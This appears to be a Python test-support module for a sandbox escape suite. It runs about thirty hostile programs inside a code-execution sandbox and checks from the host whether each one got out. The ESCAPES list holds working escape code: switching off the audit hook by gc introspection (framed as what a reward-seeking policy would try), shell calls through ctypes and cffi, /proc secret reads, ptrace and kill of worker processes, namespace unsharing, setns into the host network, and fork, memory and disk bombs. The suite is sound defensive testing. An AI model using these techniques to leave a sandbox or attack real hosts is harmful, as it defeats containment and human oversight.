"""The sandbox escape suite: hostile programs, each a known technique, and the host-side check of whether it got
out. Shared by tests/component/test_sandbox_escapes.py and `make bench-sandbox`.

    with Target() as target:
        for escape in ESCAPES:
            outcome = target.attempt(escape, mode="namespaces")   # outcome.contained, outcome.evidence

Every program starts with UNHOOK, what a policy searching for reward would try first: find the sandbox's audit
hook with `gc` and swap its code for a no-op (it lives in the same interpreter). Under mode `none` that switches
the guard off; under `namespaces` there is no hook and nothing changes. A program prints `ESCAPED <what>` when
its technique worked in a way the host cannot see (it gained a capability); everything it could take or change
on the host (a secret file, the worker's environment and command line, another session's files, a file outside,
a process of the worker, leftover processes, the host's network) is checked from the host side.
"""

from __future__ import annotations

import os
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from dataclasses import dataclass
from pathlib import Path

from services.env_worker.sandbox import SandboxLimits, SandboxResult, run_python

REPO_FILE = Path(__file__).resolve()  # a file of the repository (and of the worker's code)
SECRET_ENV = "FW_SANDBOX_TEST_SECRET"
LIMITS = SandboxLimits(wall_s=6, cpu_s=4, memory_bytes=512 << 20, output_bytes=8192, file_bytes=32 << 20,
                       max_procs=32, disk_bytes=32 << 20)

UNHOOK = """
import gc, sys, os
for _f in gc.get_objects():
    if type(_f).__name__ == "function" and _f.__name__ == "hook" and _f.__code__.co_freevars:
        def _make():
            readable = root = None
            def h(event, args):
                return (readable, root) and None
            return h
        _f.__code__ = _make().__code__
sys.modules.pop("_posixsubprocess", None)  # the boot script replaced its fork_exec; a re-import restores it
import _posixsubprocess, subprocess
subprocess._fork_exec = _posixsubprocess.fork_exec
"""

LIBC = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"


@dataclass(frozen=True)
class Escape:
    name: str
    code: str  # formatted with the Target's fields: {secret_path} {outside} {victim_pid} {port} {marker} ...
    wall_s: float | None = None


ESCAPES = [
    Escape("audit hook switched off by introspection, then a host file read",
           UNHOOK + "print(open({secret_path!r}).read())"),
    Escape("ctypes: libc system() runs a shell", LIBC + "libc.system(b'cat {secret_path}; id')"),
    Escape("cffi: dlopen libc, system()",
           "import cffi\nffi = cffi.FFI()\nffi.cdef('int system(const char *);')\n"
           "ffi.dlopen(None).system(b'cat {secret_path}')"),
    Escape("_posixsubprocess re-imported (its fork_exec raises no audit event)",
           "import sys, os\nsys.modules.pop('_posixsubprocess', None)\nimport _posixsubprocess\n"
           "r, w = os.pipe()\ner, ew = os.pipe()\n"
           "pid = _posixsubprocess.fork_exec([b'/bin/cat', b'{secret_path}'], [b'/bin/cat'], True, (w, ew), None, "
           "None, -1, -1, -1, w, -1, -1, er, ew, False, False, -1, None, None, None, -1, None, False)\n"
           "os.close(w)\nos.waitpid(pid, 0)\nprint(os.read(r, 4096))"),
    Escape("/proc/self/mem: write into the interpreter's own memory, then read a host file",
           UNHOOK + "b = bytes(16)\nwith open('/proc/self/mem', 'r+b', buffering=0) as m:\n"
           "    m.seek(id(b) + 32)\n    m.write(b'x' * 16)\n"
           "print('own memory written' if b != bytes(16) else '')\nprint(open({secret_path!r}).read())"),
    Escape("/proc/<parent>/environ: the worker's secrets",
           UNHOOK + "import glob\nfor p in ['/proc/%d/environ' % os.getppid(), *glob.glob('/proc/*/environ')]:\n"
           "    try:\n        data = open(p, 'rb').read()\n    except OSError:\n        continue\n"
           "    if b'secret' in data or b'victim' in data:\n        print(data)"),
    Escape("/proc/<parent>/cmdline: the worker's command line",
           UNHOOK + "import glob\nfor p in glob.glob('/proc/*/cmdline'):\n"
           "    try:\n        data = open(p, 'rb').read()\n    except OSError:\n        continue\n"
           "    if b'secret' in data or b'victim' in data:\n        print(data)"),
    Escape("read the worker's files", UNHOOK + "print(open({secret_path!r}).read())"),
    Escape("read the repository", UNHOOK + "print(open({repo_file!r}).read())"),
    Escape("read another session's work dir",
           UNHOOK + "import glob, time\nend = time.time() + 3\nwhile time.time() < end:\n"
           "    for p in glob.glob('/tmp/*/victim.txt') + glob.glob('/sandbox/victim.txt'):\n"
           "        print(open(p).read())\n    time.sleep(0.1)"),
    Escape("write outside the work dir", UNHOOK + "open({outside!r}, 'w').write('pwned')"),
    Escape("symlink to a host file", UNHOOK + "os.symlink({secret_path!r}, 'link')\nprint(open('link').read())"),
    Escape("hard link to a host file", UNHOOK + "os.link({secret_path!r}, 'hard')\nprint(open('hard').read())"),
    Escape("signal a worker process", UNHOOK + "import signal\nos.kill({victim_pid}, signal.SIGKILL)"),
    Escape("ptrace a worker process",
           UNHOOK + LIBC + "if libc.ptrace(16, {victim_pid}, 0, 0) == 0:\n    print('ESCAPED ptrace attach')"),
    Escape("setuid binary: mount as root",  # already root (mode none under a root worker): that is the escape
           UNHOOK + "import subprocess\nos.makedirs('m', exist_ok=True)\nif os.geteuid() == 0:\n"
           "    print('ESCAPED running as root')\nelse:\n"
           "    r = subprocess.run(['/usr/bin/mount', '-t', 'tmpfs', 'none', 'm'], capture_output=True)\n"
           "    print('ESCAPED mounted' if r.returncode == 0 else r.stderr)"),
    Escape("unshare a user namespace and mount",
           UNHOOK + LIBC + "if libc.unshare(0x10000000 | 0x00020000) == 0:\n    print('ESCAPED unshare')\n"
           "os.makedirs('m', exist_ok=True)\n"
           "if libc.mount(b'none', b'm', b'tmpfs', 0, None) == 0:\n    print('ESCAPED mount')"),
    Escape("nested user namespace: clone and clone3 with CLONE_NEWUSER",  # unshare: the escape above
           UNHOOK + LIBC + "import platform, struct\n"
           "clone = {{'x86_64': 56, 'aarch64': 220}}[platform.machine()]\n"
           "L = ctypes.c_long\n"  # CLONE_NEWUSER | SIGCHLD; clone3 reads the same from its struct clone_args
           "for name, nr, args in (('clone', clone, (L(0x10000000 | 17), L(0), L(0), L(0), L(0))),\n"
           "                       ('clone3', 435, (ctypes.create_string_buffer(struct.pack('8Q', 0x10000000, 0, 0, 0,"
           " 17, 0, 0, 0)), L(64)))):\n"
           "    pid = libc.syscall(L(nr), *args)\n"
           "    if pid == 0:\n        os._exit(0)\n"  # the child, in its new user namespace (a raw clone forks)
           "    if pid > 0:\n        os.waitpid(pid, 0)\n        print('ESCAPED', name, 'made a user namespace')\n"
           "    else:\n        print(name, 'refused:', os.strerror(ctypes.get_errno()))"),
    Escape("raw socket", UNHOOK + "import socket\n"
           "for fam, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW)):\n"
           "    try:\n        socket.socket(fam, kind, 0)\n        print('ESCAPED raw socket', fam)\n"
           "    except OSError as e:\n        print(e)"),
    Escape("network: connect to the worker's host",
           UNHOOK + LIBC + "for pid in (os.getppid(), {victim_pid}):\n    try:\n"
           "        libc.setns(os.open('/proc/%d/ns/net' % pid, os.O_RDONLY), 0x40000000)\n"
           "    except OSError:\n        pass\nimport socket\n"
           "s = socket.create_connection(('127.0.0.1', {port}), timeout=2)\ns.sendall(b'{marker}')\n"
           "print('ESCAPED connected')"),
    Escape("network: vsock to the VM host", UNHOOK + "import socket\n"
           "s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)\nprint('ESCAPED vsock socket')\n"
           "s.settimeout(1)\ns.connect((2, 22))"),
    Escape("fork bomb", UNHOOK + "import time\nn = 0\nfor i in range(200):\n    try:\n        pid = os.fork()\n"
           "    except OSError:\n        break\n    if pid == 0:\n        time.sleep(5)\n        os._exit(0)\n"
           "    n += 1\nprint('forked', n)\nif n >= 100:\n    print('ESCAPED %d processes' % n)"),
    Escape("memory bomb", UNHOOK + "x = []\nwhile True:\n    x.append(bytearray(64 << 20))\n"
           "    if len(x) * 64 >= 2048:\n        print('ESCAPED 2 GiB allocated')\n        break"),
    Escape("fill the disk", UNHOOK + "n = 0\ntry:\n    for i in range(16):\n"
           "        with open('fill%d' % i, 'wb') as f:\n            for _ in range(8):\n"
           "                f.write(b'x' * (1 << 20))\n                n += 1\nexcept OSError:\n    pass\n"
           "print('wrote MiB', n)\nif n > 48:\n    print('ESCAPED %d MiB written' % n)"),
    Escape("huge output", "import sys\nwhile True:\n    sys.stdout.write('x' * 65536)"),
    Escape("sleep past the wall-clock limit", "import time\ntime.sleep(60)\nprint('ESCAPED woke')", wall_s=1.5),
    Escape("background process left behind",
           UNHOOK + "import subprocess\nif os.fork() == 0:\n    os.setsid()\n"
           "    os.execv('/bin/sleep', ['{marker}', '30'])\nimport time\ntime.sleep(0.5)"),
]


@dataclass
class Outcome:
    escape: str
    mode: str
    contained: bool
    evidence: str
    result: SandboxResult


class Target:
    """What the escapes go after: a secret file, a secret in the worker's environment, a worker process (victim),
    a TCP listener on the worker's loopback, a path outside the sandbox, and another session's sandbox holding a
    file. `attempt` runs one escape and checks each of them afterwards."""

    def __init__(self, image: str | None = None) -> None:
        self.image = image  # mode container: the image sessions run in
        self.dir = Path(tempfile.mkdtemp(prefix="fw-escape-target-"))
        self.token = uuid.uuid4().hex
        self.secret_path = self.dir / "secret.txt"
        self.secret_path.write_text(f"secret-file-{self.token}")
        self.marker = f"fwmark{self.token[:12]}"

    def __enter__(self) -> Target:
        self.victim = self._victim()
        self.server = socket.socket()
        self.server.bind(("127.0.0.1", 0))
        self.server.listen(8)
        self.server.settimeout(0.1)
        return self

    def _victim(self) -> subprocess.Popen:
        """A process of the worker, with a secret in its environment and on its command line."""
        return subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", f"victim-{self.token}"],
                                env={**os.environ, SECRET_ENV: f"secret-env-{self.token}"})

    def __exit__(self, *exc) -> None:
        self.victim.kill()
        self.victim.wait()
        self.server.close()
        subprocess.run(["rm", "-rf", str(self.dir)], check=False)

    def fields(self) -> dict:
        return {"secret_path": str(self.secret_path), "outside": str(self.dir / f"outside-{self.token}"),
                "victim_pid": self.victim.pid, "port": self.server.getsockname()[1], "marker": self.marker,
                "repo_file": str(REPO_FILE)}

    def attempt(self, escape: Escape, mode: str) -> Outcome:
        fields = self.fields()
        limits = LIMITS if escape.wall_s is None else SandboxLimits(**{**LIMITS.__dict__, "wall_s": escape.wall_s})
        other = _OtherSession(mode, self.token, self.image) if "another session" in escape.name else None
        start = time.monotonic()
        result = run_python(escape.code.format(**fields), limits=limits, mode=mode, image=self.image)
        elapsed = time.monotonic() - start
        if other:
            other.join()
        evidence = self.evidence(escape, result, fields, elapsed, limits)
        return Outcome(escape.name, mode, not evidence, "; ".join(evidence), result)

    def evidence(self, escape: Escape, result: SandboxResult, fields: dict, elapsed: float,
                 limits: SandboxLimits) -> list[str]:
        out = result.stdout + result.stderr
        found = [line.strip() for line in out.splitlines() if line.startswith("ESCAPED")][:3]
        for what in ("secret-file-", "secret-env-", "victim-"):
            if what + self.token in out:
                found.append(f"output holds the {what}secret")
        if REPO_FILE.read_text()[:200] in out:
            found.append("output holds a repository file")
        if Path(fields["outside"]).exists():
            found.append("a file was written outside")
            Path(fields["outside"]).unlink()
        if self.victim.poll() is not None or _kill_pending(self.victim.pid):
            found.append("a worker process was killed")
            self.victim.wait(timeout=30)
            self.victim = self._victim()
        elif _traced(self.victim.pid):
            found.append("a worker process is being traced")
        if self.victim.poll() is None:
            os.kill(self.victim.pid, signal.SIGCONT)  # a ptrace attach leaves it stopped
        if self._accepted():
            found.append("a connection reached the worker's loopback")
        if leftovers := _processes_named(self.marker):
            found.append("a process outlived the call")
            for pid in leftovers:
                os.kill(pid, signal.SIGKILL)
        if elapsed > limits.wall_s + 5:
            found.append(f"the call took {elapsed:.1f}s (wall limit {limits.wall_s}s)")
        if len(result.stdout) > limits.output_bytes + 100:
            found.append("output not capped")
        return found

    def _accepted(self) -> bool:
        try:
            conn, _ = self.server.accept()
        except (TimeoutError, OSError):
            return False
        conn.close()
        return True


class _OtherSession(threading.Thread):
    """A concurrent session of the same mode that keeps a secret in its work dir for ~4 s."""

    def __init__(self, mode: str, token: str, image: str | None):
        super().__init__(daemon=True)
        self.mode, self.token, self.image = mode, token, image
        self.start()
        time.sleep(1.0)

    def run(self) -> None:
        code = f"open('victim.txt', 'w').write('victim-{self.token}')\nimport time\ntime.sleep(4)"
        run_python(code, limits=SandboxLimits(wall_s=6), mode=self.mode, image=self.image)


def _kill_pending(pid: int) -> bool:
    """A SIGKILL sent to `pid` that it has not acted on yet (/proc/<pid>/status SigPnd or ShdPnd): kill() returns
    once the signal is queued, and on a loaded machine the victim may not have run since (a CI run read it
    alive right after an escape killed it)."""
    try:
        status = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return False
    pending = [int(line.split()[1], 16) for line in status.splitlines() if line.startswith(("SigPnd:", "ShdPnd:"))]
    return any(mask & (1 << (signal.SIGKILL - 1)) for mask in pending)


def _traced(pid: int) -> bool:
    try:
        status = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return False
    tracer = next((line.split()[1] for line in status.splitlines() if line.startswith("TracerPid:")), "0")
    if tracer != "0":
        try:
            os.kill(int(tracer), signal.SIGKILL)
        except OSError:
            pass
        return True
    return False


def _processes_named(marker: str) -> list[int]:
    pids = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if marker.encode() in (entry / "cmdline").read_bytes():
                    pids.append(int(entry.name))
            except OSError:
                continue
    return pids


def proc_sys_read_only(argv: list[str]) -> list[str]:
    """`argv` in a private mount namespace whose /proc/sys is read-only, as in a container (root only): bwrap
    can then neither set the sysctl (--disable-userns) nor mount a fresh /proc."""
    remount = 'mount --bind /proc/sys /proc/sys && mount -o remount,bind,ro /proc/sys && exec "$@"'
    return ["unshare", "--mount", "--propagation", "private", "sh", "-c", remount, "sh", *argv]


def main() -> int:
    """`python -m tests.support.sandbox_escapes [MODE]`: every escape against MODE (namespaces) where this runs (e.g.
    inside the env-worker container, by `make compose-smoke`); prints a JSON summary, exit 1 if one got out."""
    import json

    from services.env_worker.sandbox import ns as sandbox_ns
    mode = sys.argv[1] if len(sys.argv) > 1 else "namespaces"
    summary: dict = {"mode": mode}
    if mode == "namespaces":
        lay = sandbox_ns.layout()
        summary.update(proc=lay.proc, userns_sysctl=lay.userns_sysctl)
    with Target() as target:
        outcomes = [target.attempt(escape, mode) for escape in ESCAPES]
    summary.update(total=len(outcomes), contained=sum(o.contained for o in outcomes),
                   escaped={o.escape: o.evidence for o in outcomes if not o.contained})
    print(json.dumps(summary))
    return 0 if not summary["escaped"] else 1


if __name__ == "__main__":
    sys.exit(main())
